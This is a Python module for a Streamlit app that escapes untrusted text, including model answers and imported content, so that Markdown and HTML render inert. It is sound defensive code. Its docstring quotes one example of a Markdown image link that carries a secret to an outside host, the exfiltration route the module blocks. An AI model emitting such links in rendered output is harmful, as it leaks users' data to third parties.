"""Untrusted text stays text: one place that decides how the studio shows it.

Model answers, passages, document titles, questions, imported flows (names, descriptions, labels)
and error messages that quote any of those may hold Markdown or HTML. Rendered as Markdown,
`![x](http://host/p.png?q=SECRET)` would make the browser fetch that address. So such text goes
through `text()` (st.text: no Markdown, no HTML) or, where it must sit inside Markdown (a label,
a bold title, an alert), through `escape()` / `code()`.
"""
from __future__ import annotations

import re
from typing import Any

import streamlit as st

# Every ASCII punctuation character may be backslash-escaped in CommonMark; escaping all the ones
# that start syntax (links, images, emphasis, HTML, entities, code, math, Streamlit directives
# such as :red[..] and :material/icon:) leaves the text exactly as written and inert.
_SPECIAL = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|~$:&=\"'^%@/?;,])")
_BACKTICKS = re.compile(r"`+")


def escape(value: object, limit: int | None = None) -> str:
    """`value` as Markdown that renders as its literal text (no link, image, HTML or markup).

    `limit` cuts the text to that many characters first (an ellipsis marks the cut). Line breaks
    become spaces: the result is for one line (labels, alerts, captions)."""
    s = "" if value is None else str(value)
    if limit is not None and len(s) > limit:
        s = s[:limit] + "…"
    s = " ".join(s.splitlines()) if ("\n" in s or "\r" in s) else s
    return _SPECIAL.sub(r"\\\1", s)


def code(value: object, limit: int | None = None) -> str:
    """`value` as an inline code span (nothing inside a code span is Markdown), fenced with more
    backticks than any run inside it."""
    s = "" if value is None else str(value)
    if limit is not None and len(s) > limit:
        s = s[:limit] + "…"
    s = " ".join(s.splitlines())
    longest = max((len(m) for m in _BACKTICKS.findall(s)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if (s.startswith("`") or s.endswith("`") or not s.strip()) else ""
    return f"{fence}{pad}{s or ' '}{pad}{fence}"


def text(value: object, container: Any = None) -> None:
    """Show `value` as plain text (st.text): line breaks kept, nothing parsed."""
    (container or st).text("" if value is None else str(value))


def quote(value: object) -> str:
    """A Markdown block quote of `value`, escaped line by line."""
    lines = ("" if value is None else str(value)).splitlines() or [""]
    return "\n".join("> " + escape(line) for line in lines)
